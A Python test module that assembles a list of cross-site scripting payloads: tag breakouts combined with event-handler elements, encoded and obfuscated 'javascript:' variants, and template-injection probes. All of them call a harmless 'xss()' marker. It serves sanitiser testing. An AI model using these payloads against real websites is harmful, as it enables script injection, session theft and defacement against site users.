"""Which texts try to become a program in a browser, or a formula in a sheet? Each one is short enough for any field."""

from itertools import product

CALL = "xss()"
"""What every script does when it runs; pages under test define it."""

_ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src='javascript:parent.{CALL}'></iframe>",
    f"<a href='javascript:{CALL}' autofocus onfocus={CALL}>x</a>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<style>@import 'javascript:{CALL}'</style><style onload={CALL}></style>",
    f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<object data='data:text/html,<script>{CALL}</script>'>",
    f"<embed src='data:text/html,<script>{CALL}</script>'>",
    f"<form action='javascript:{CALL}'><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href='javascript:{CALL}//'>",
    f"<marquee onstart={CALL}>",
    f"<template><img src=x onerror={CALL}></template><img src=x onerror={CALL}>",
)
_CLOSERS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", '" autofocus onfocus="xss()" x="', "' style='x' ")  # fmt: skip
_WRITINGS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "%3Cscript%3Exss()%3C/script%3E",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<\x00script>xss()</script>",
    "＜script＞xss()＜/script＞",
    "<SCRIPT SRC=//127.0.0.1/x.js></SCRIPT>",
    "{{7*7}}{% raw %}<b>xss</b>",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{''.__class__.__mro__}}",
    "\u202e<script>xss()</script>",
    "[click](javascript:xss())",
    '![x](x" onerror="xss())',
    "`${xss()}`",
    "';xss();//",
    '";xss();//',
    "</style><script>xss()</script>",
    "<!--<img src='--><img src=x onerror=xss()>'>",
    '<img src="x` `<script>xss()</script>"` `>',
    '<a href="\x01javascript:xss()">x</a>',
)

SCRIPTS = tuple(dict.fromkeys([*(close + element for close, element in product(_CLOSERS, _ELEMENTS)), *_WRITINGS, *(text.upper().replace("XSS()", CALL) for text in _ELEMENTS)]))  # fmt: skip
"""More than three hundred."""
